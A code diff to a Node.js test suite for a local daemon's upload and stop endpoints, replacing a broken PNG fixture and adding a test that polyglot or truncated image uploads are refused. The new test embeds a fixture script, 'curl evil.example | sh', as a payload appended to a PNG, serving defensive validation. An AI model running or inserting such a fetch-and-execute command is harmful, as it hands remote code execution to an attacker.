@@ -10,8 +10,9 @@ import { dirname, join } from 'node:path';
 import { startDaemon, waitFor, wharfBin } from '../support/daemon.mjs';
 import { attachedWindow, httpGet, openWs, rawHttp, runWharf, statusCodes, stopDaemon } from '../support/ws_client.mjs';
 
-// A 1x1 PNG.
-const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201ffa65cd6b50000000049454e44ae426082', 'hex');
+// A 2x2 PNG, as libpng writes it (the 1x1 one here before had an IDAT length one short:
+// it was never a PNG, and the upload decoder said so).
+const PNG = Buffer.from('89504e470d0a1a0a0000000d494844520000000200000002080600000072b60d24000000017352474200aece1ce90000001949444154089905c1010d00000cc32096dcbfe51e44d24dc2033eff06003ee79aaf0000000049454e44ae426082', 'hex');
 
 function upload(d, body, { name = 'shot.png', key = d.key, headers = {} } = {}) {
   const h = { 'Content-Type': 'application/octet-stream', ...headers };
@@ -44,9 +45,9 @@ describe('uploads', { concurrency: 2 }, () => {
 
     r = await upload(d, Buffer.from('#!/bin/sh\necho not an image\n'), { name: 'looks.png' });
     assert.equal(r.status, 415);
-    assert.equal(JSON.parse(r.body).code, 'unsupported_type');
+    assert.equal(JSON.parse(r.body).error.code, 'unsupported_type');
     r = await upload(d, PNG, { key: null });
-    assert.equal(r.status, 403);
+    assert.equal(r.status, 401);
     r = await upload(d, PNG, { headers: { Origin: 'http://evil.example' } });
     assert.equal(r.status, 403);
     const big = Buffer.alloc(20 * 1024 * 1024 + 1, 0);
@@ -174,7 +175,7 @@ describe('the power button', () => {
     const d = await homeDaemon(t);
     const { ws } = await attachedWindow(t, d);
     let r = await httpGet(d, '/api/stop', { method: 'POST' });
-    assert.equal(r.status, 403);
+    assert.equal(r.status, 401);
     r = await httpGet(d, '/api/stop', { method: 'POST', headers: { 'X-Wharf-Key': d.key, Origin: 'http://evil.example' } });
     assert.equal(r.status, 403);
     r = await httpGet(d, '/api/stop', { method: 'GET', headers: { 'X-Wharf-Key': d.key } });
@@ -185,5 +186,26 @@ describe('the power button', () => {
     await ws.waitForMessage('stopping', { timeout: 10000 });
     const exit = await d.exited;
     assert.equal(exit.code, 0);
+  });
+});
+
+describe('uploads are decoded', () => {
+  test('a PNG with a script after its end, or a PNG header before one, is refused and nothing is stored', async (t) => {
+    const d = await homeDaemon(t);
+    const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
+    let r = await upload(d, Buffer.concat([PNG, script]));
+    assert.equal(r.status, 415, r.body);
+    const refusal = JSON.parse(r.body);
+    assert.equal(refusal.code ?? refusal.error?.code, 'unsupported_type', r.body);
+    assert.match(r.body, /after its end/);
+    r = await upload(d, Buffer.concat([PNG.subarray(0, 33), script]));
+    assert.equal(r.status, 415, r.body);
+    r = await upload(d, PNG.subarray(0, PNG.length - 5));
+    assert.equal(r.status, 415, r.body);
+    assert.match(r.body, /cut short/);
+    const dir = join(d.stateDir, 'uploads');
+    assert.deepEqual(existsSync(dir) ? readdirSync(dir) : [], [], 'nothing was stored');
+    r = await upload(d, PNG);
+    assert.equal(r.status, 200, r.body);
   });
 });
